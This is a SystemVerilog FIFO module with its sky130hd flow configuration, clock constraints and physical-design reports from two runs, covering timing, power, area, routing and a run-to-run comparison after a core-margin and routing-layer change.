--- src/fcd_fifo.sv ---
module fcd_fifo #(
    parameter int WIDTH = 8,
    parameter int DEPTH = 4
) (
    input  logic             clk,
    input  logic             rst_n,
    input  logic             push,
    input  logic [WIDTH-1:0] push_data,
    output logic             full,
    input  logic             pop,
    output logic [WIDTH-1:0] pop_data,
    output logic             not_empty
);
    localparam int PW = (DEPTH > 1) ? $clog2(DEPTH) : 1;

    logic [WIDTH-1:0] store_reg [DEPTH];
    logic [PW-1:0]    wr_ptr_reg, wr_ptr_next;
    logic [PW-1:0]    rd_ptr_reg, rd_ptr_next;
    logic [PW:0]      count_reg, count_next;
    logic             do_push, do_pop;

    assign full      = (count_reg == (PW+1)'(DEPTH));
    assign not_empty = (count_reg != '0);
    assign do_push   = push && !full;
    assign do_pop    = pop && not_empty;
    assign pop_data  = store_reg[rd_ptr_reg];

    always_comb
    begin
        wr_ptr_next = wr_ptr_reg;
        rd_ptr_next = rd_ptr_reg;
        count_next  = count_reg;
        if (do_push)
        begin
            wr_ptr_next = (wr_ptr_reg == PW'(DEPTH - 1)) ? '0 : wr_ptr_reg + 1'b1;
        end
        if (do_pop)
        begin
            rd_ptr_next = (rd_ptr_reg == PW'(DEPTH - 1)) ? '0 : rd_ptr_reg + 1'b1;
        end
        if (do_push && !do_pop)
        begin
            count_next = count_reg + 1'b1;
        end
        else if (do_pop && !do_push)
        begin
            count_next = count_reg - 1'b1;
        end
    end

    always_ff @(posedge clk or negedge rst_n)
    begin
        if (!rst_n)
        begin
            wr_ptr_reg <= '0;
            rd_ptr_reg <= '0;
            count_reg  <= '0;
        end
        else
        begin
            wr_ptr_reg <= wr_ptr_next;
            rd_ptr_reg <= rd_ptr_next;
            count_reg  <= count_next;
        end
    end

    always_ff @(posedge clk)
    begin
        if (do_push)
        begin
            store_reg[wr_ptr_reg] <= push_data;
        end
    end
endmodule

--- config.mk ---
export PLATFORM = sky130hd
export DESIGN_NAME = fcd_fifo
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/fcd_fifo.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CORE_MARGIN = 1
export CORE_UTILIZATION = 45
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4
export DETAILED_ROUTE_END_ITERATION = 8
export GPL_ROUTABILITY_DRIVEN = 0
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
--- constraint.sdc ---
create_clock -name clk -period 2.3 [get_ports clk]
set_input_delay 0.115 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.115 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
==> results by group, run 1 <==
Setup path
  • Arr. time, crit path: 2.37 ns
  • Slowest stage delay, CP: 0.47 ns
  • RR Startpoint: count_reg[0]$_DFFE_PN0P_
  • Critical path startpoint: count_reg[0]$_DFFE_PN0P_
  • Worst Path Required: 2.56 ns
  • CP Cell Sequence: or3_4 -> nand2_4 -> ha_1 -> inv_1 -> fa_1 -> xor2_1 -> nor2_1 -> xor2_1
  • Crit Path Max Fanout: 4
  • Top cell by count, worst path: xor2_1
  • CP Capture Type: flop
  • Critical Setup Path Class: reg2reg
  • CP startpoint kind: flop
  • Slowest CP cell: dfrtp_2

Clock tree
  • Clock Tree Buf Depth: 2
  • Total CTS buffers: 5
  • CTS root buf: clkbuf_4
  • Clock Sinks: 39
  • CTS tree: yes
  • Later-pin clock latency in the skew report: 0.33 ns
  • CTS H-tree depth: 2
  • CTS clock-pin slew for the worst setup and hold paths: 0.11 ns

Cells and area
  • Final core occ: 57.1%
  • Diode count: 0
  • Most frequent cells in the layout: edfxtp_1 (32), buf_2 (21), dlygate4sd3_1 (9)
  • Fillers: 268
  • Layout Area Growth over Synthesis: 19.5%
  • Max reg flops: 32
  • Finished Layout Cells: 161
  • Commonest non-fill, non-tap cell in the layout: edfxtp_1
  • Layout Nets: 133
  • Proportion of layout cells with a drive suffix above 1: 44.3%
  • Design area: 1950 um^2

Place
  • Post-Place Cells: 144
  • PortBufs: 21
  • Placed Area: 1780 um^2
  • HPWL Detailed: 1610 um

Routing
  • Antenna Violating Nets Remaining: 0
  • Vias after detailed routing: 791
  • Wire per inst: 14.4 um
  • Routed vias/inst: 4.91
  • DRT Pass-1 Iters: 4
  • # DRC: 0
  • DRT iter0 DRCs: 16
  • Final Routed Wirelength: 2320 um

Floorplanning
  • # IOs: 22
  • Die area: 3870 um^2
  • Die H: 62.2 um
  • Cell row count: 21
  • Core Region: 3420 um^2
  • Starting density of the core: 47.8%
  • Die span in x: 62.2 um

Power and ir drop
  • Worst vdd ir: 0.646 mV
  • Net Sw Power: 780 uW
  • Combinational group share of total power: 35.2%
  • Sw Ratio: 32.4%
  • Reg power frac: 46.9%
  • Leak pwr: 0.745 nW
  • P_int: 1.63 mW
  • Clk network pwr share: 17.9%
  • Power density over the cells: 1230 nW/um^2

Timing
  • Final worst-path cycle share: 91.7%
  • Setup TNS: 0 ns
  • Final setup fails: 0
  • Tmin final: 2.11 ns
  • Final Skew: 0.00300 ns
  • Slew Limit Fails: 0
  • Maximum clock rate: 0.474 GHz
  • Least-Margin Pin Slew: 0.613 ns
  • Final Hold Fails: 0
  • RSZ-0062 raised after global routing: false
  • Slew margin rel.: 59.2%
  • Minimum hold slack: 0.145 ns

Synth
  • Register area share after synthesis: 69.6%
  • Mean Syn Cell Area: 20.7 um^2
  • Synthesized flop and latch total: 39
  • Synthesized instance count: 79
  • Cell Area, Synth: 1630 um^2
  • Synthesized Nets: 98
  • Synth cell types: 19
  • Synth warnings: 0

Global routing
  • Grt ovf: 0
  • First-pass GRT wire length: 3980 um
  • Largest net degree at the start of global routing: 13
  • All-Layer GR Usage: 14.0%
  • Antenna violations before repair: 0
  • Vias in the first global route: 854

Status
  • Status: finished, final reports clean

Run
  • Max-cap violations: 0

Hold path
  • Worst hold path type: in2async
synthesized netlist by cell type, drive strengths merged:
library cell | number | area [um^2]
or3 | 1 | 11.3
xnor2 | 1 | 8.76
nor3b | 1 | 18.8
ha | 6 | 75.1
dfrtp | 7 | 175
inv | 3 | 11.3
fa | 1 | 20.0
and2 | 4 | 30.0
nor2 | 3 | 11.3
mux2 | 5 | 71.3
nor2b | 1 | 8.76
xor2 | 2 | 17.5
nand2 | 1 | 11.3
mux4 | 8 | 180
edfxtp | 32 | 961
buf | 2 | 16.3
clkbuf | 1 | 3.75
power groups by stage:
stage	logic [mW]	clock network [mW]	registers (mW)
3_5_place_dp	0.845	0	1.15
2_1_floorplan	0.722	0	1.04
3_3_place_gp	0.833	0	1.14
5_1_grt	0.927	0.476	1.16
4_1_cts	0.863	0.442	1.14
6_report	0.848	0.431	1.13
stage by stage:
| stage | power [mW] | setup slack (ns) |
|---|---|---|
| floorplan | 1.77 | 0.244 |
| global placement | 1.97 | 0.250 |
| detailed placement | 2.00 | 0.198 |
| CTS | 2.44 | 0.152 |
| global route | 2.56 | 0.0251 |
| finish | 2.41 | 0.191 |
timing repair:
action	CTS	global route
gates resized for setup	0	1
hold endpoints to repair	39	0
hold buffers	9	0
buffers inserted	0	0
setup endpoints to repair	0	1
critical path: cells and delay by family, from the launching register on:
family	cells	cell delay, ns
buffers and inverters	1	0.06
flip-flops	1	0.47
adder cells (fa/ha/maj)	2	0.56
XOR/XNOR	2	0.33
AND/OR/NAND/NOR	3	0.63
logic make-up after synthesis:
kind of cell	count (synthesis)	share of synthesized area [%]
AND/OR/NAND/NOR	11	5.60
flip-flops	39	69.6
buffers and inverters	6	1.92
multiplexers	13	15.4
adder cells (fa/ha/maj)	7	5.83
XOR/XNOR	3	1.61
path summary, 6_finish.rpt:
path | to | slack, ns | depth (start not counted)
worst min register to register | count_reg[2]$_DFFE_PN0P_ | 0.52 | 1
worst max-delay path | count_reg[2]$_DFFE_PN0P_ | 0.19 | 8
worst min-delay path | count_reg[1]$_DFFE_PN0P_ | 0.15 | 2
worst max register to register | count_reg[2]$_DFFE_PN0P_ | 0.19 | 8
min in group clk | rd_ptr_reg[0]$_DFFE_PN0P_ | 0.15 | 3
max in group asynchronous | count_reg[0]$_DFFE_PN0P_ | 1.98 | 2
final cells by class:
type                    instances  area (um^2)  area share (%)
inverters                       3         11.3           0.578
clock inverters                 3         38.8            1.99
well taps                      46         57.6            2.95
flip-flops and latches         39         1140            58.3
multi-input cells              34          464            23.8
repair buffers                 31          203            10.4
clock buffers                   5         37.5            1.93
metal layers:
| layer | track usage, % | share of wire, % | routed length [um] |
|---|---|---|---|
| met3 | 3.86 | 4.2 | 97 |
| met2 | 23.8 | 51 | 1190 |
| met5 | 0 | 0 | 0 |
| met1 | 16.3 | 43 | 997 |
| met4 | 6.98 | 1.5 | 34 |
Power figures use the tool's default switching activity.
==> run 2: changes to the inputs <==
CORE_MARGIN = 2   (was 1)
MAX_ROUTING_LAYER = met4   (was default)
==> run 2 against run 1 <==
Against the previous run:
- die area is 6.5% higher
- hold slack worse by 0.034 ns
- critical path depth stayed put
- final cell count stayed put
- sequential cell count stayed put
==> results by group, run 2 (same netlist as run 1, synthesis figures left out) <==
Power and ir drop
  • Leak pwr: 0.735 nW
  • Worst vdd ir: 0.511 mV
  • Power density over the cells: 1200 nW/um^2
  • P_int: 1.53 mW
  • Clk network pwr share: 15.1%
  • Reg power frac: 48.6%
  • Net Sw Power: 788 uW
  • Combinational group share of total power: 36.3%
  • Sw Ratio: 34.0%

Cells and area
  • Register area: 1140 um^2
  • Fillers: 289
  • Diode count: 0
  • Proportion of layout cells with a drive suffix above 1: 44.3%
  • Layout Nets: 133
  • Finished Layout Cells: 161
  • Most frequent cells in the layout: edfxtp_1 (32), buf_2 (21), dlygate4sd3_1 (9)
  • Commonest non-fill, non-tap cell in the layout: edfxtp_1
  • Max reg flops: 32
  • Layout Area Growth over Synthesis: 18.3%
  • Multi-input logic area: 464 um^2

Clock tree
  • Clock Tree Buf Depth: 2
  • PostCTS Resize Cnt: 0
  • Post-CTS Setup Inserts: 0
  • CTS root buf: clkbuf_4
  • CTS tree: yes
  • Clock Sinks: 39
  • CTS clock-pin slew for the worst setup and hold paths: 0.12 ns
  • Later-pin clock latency in the skew report: 0.34 ns
  • CTS H-tree depth: 2
  • Post-CTS Hold Fix Bufs: 9
  • Total CTS buffers: 5

Run
  • Max-cap violations: 0

Timing
  • Slew Limit Fails: 0
  • Final setup fails: 0
  • Worst setup margin: 0.178 ns
  • Minimum hold slack: 0.111 ns
  • Final Skew: 0.00864 ns
  • Maximum clock rate: 0.471 GHz
  • Slew margin rel.: 60.1%
  • Setup TNS: 0 ns
  • Least-Margin Pin Slew: 0.598 ns
  • Tmin final: 2.12 ns
  • Final Hold Fails: 0
  • RSZ-0062 raised after global routing: false
  • Final worst-path cycle share: 92.3%

Routing
  • Wire per inst: 14.8 um
  • Antenna Violating Nets Remaining: 0
  • DRT iter0 DRCs: 42
  • DRT Pass-1 Iters: 3
  • Routed vias/inst: 4.79
  • Final Routed Wirelength: 2380 um
  • # DRC: 0
  • Vias after detailed routing: 771

Floorplanning
  • Starting density of the core: 47.8%
  • Die H: 64.2 um
  • Core Region: 3420 um^2
  • # IOs: 22
  • Cell row count: 21
  • Die span in x: 64.2 um
  • Die area: 4120 um^2

Setup path
  • CP Cell Sequence: or3_4 -> nand2_4 -> ha_1 -> inv_1 -> fa_1 -> xor2_1 -> nor2_1 -> xor2_1
  • Arr. time, crit path: 2.40 ns
  • Worst r2r path cells: 8
  • Worst Path Required: 2.58 ns
  • Critical Setup Path Class: reg2reg
  • Buffer and inverter count on the worst path: 1
  • Worst path top cell family by delay: simple AND/OR/NAND/NOR gates
  • Top cell by count, worst path: xor2_1
  • Worst reg2reg setup slack: 0.18 ns
  • Crit Path Max Fanout: 4
  • CP startpoint kind: flop
  • Slowest CP cell: dfrtp_1
  • Slowest stage delay, CP: 0.48 ns
  • CP Capture Type: flop
  • R2r endpoint: count_reg[2]$_DFFE_PN0P_
  • RR Startpoint: count_reg[0]$_DFFE_PN0P_

Status
  • Status: finished, final reports clean

Global routing
  • Grt met2 use: 22.0%
  • Largest net degree at the start of global routing: 13
  • Grt met1 use: 17.3%
  • Grt ovf: 0
  • All-Layer GR Usage: 14.5%
  • Antenna violations before repair: 0
  • Global routing usage on met3: 5.81%
  • First-pass GRT wire length: 4110 um
  • Most used routing layer: met2
  • Vias in the first global route: 839

Hold path
  • Worst hold path type: in2async

Place
  • PortBufs: 21
  • Post-Place Cells: 144
  • Pre-CTS setup slack: 0.169 ns
  • HPWL Detailed: 1620 um
[run 2: worst max-delay path by stage]
stage                                   from                  endpoint  cells after the start  slack [ns]
floorplan           count_reg[0]$_DFFE_PN0P_  count_reg[2]$_DFFE_PN0P_                      8        0.24
global placement    count_reg[0]$_DFFE_PN0P_  count_reg[2]$_DFFE_PN0P_                      8        0.25
detailed placement  count_reg[0]$_DFFE_PN0P_  count_reg[2]$_DFFE_PN0P_                      8        0.17
CTS                 count_reg[0]$_DFFE_PN0P_  count_reg[2]$_DFFE_PN0P_                      8        0.16
global route        count_reg[0]$_DFFE_PN0P_  count_reg[2]$_DFFE_PN0P_                      8        0.03
finish              count_reg[0]$_DFFE_PN0P_  count_reg[2]$_DFFE_PN0P_                      8        0.18
[run 2: layer usage]
layer / wire (um) / vias to the layer above
li1: - / 368
met1: 1040 / 380
met2: 1170 / 18
met3: 120 / 5
met4: 48 / 0
met5: 0 / -
[run 2: area by class of cell]
cell class,count,area share [%]
Clock inverter,2,0.649
Sequential cell,39,58.9
Inverter,3,0.584
Multi-Input combinational cell,34,24.1
Timing Repair Buffer,31,10.5
Tap cell,46,2.98
Clock buffer,6,2.33
[run 2: power groups by stage]
stage	logic, mW	clock network [mW]	registers, mW
after global placement	0.834	0	1.14
final	0.842	0.350	1.13
after global routing	0.925	0.396	1.16
after detailed placement	0.848	0	1.15
after floorplan	0.722	0	1.04
after CTS	0.859	0.360	1.13
[run 2: per-stage QoR]
step | power (mW) | instance area (um^2) | util, %
finish | 2.32 | 1930 | 56.5
detailed placement | 2.00 | 1780 | 52.2
floorplan | 1.77 | 1630 | -
global route | 2.48 | 1930 | 56.5
CTS | 2.35 | 1930 | 56.5
global placement | 1.97 | 1780 | 52.2
[run 2: worst register-to-register path: stages, from the launching register on]
cell	delay, ns
dfrtp_1	0.48
or3_4	0.44
nand2_4	0.10
ha_1	0.18
inv_1	0.06
fa_1	0.37
xor2_1	0.17
nor2_1	0.11
xor2_1	0.15
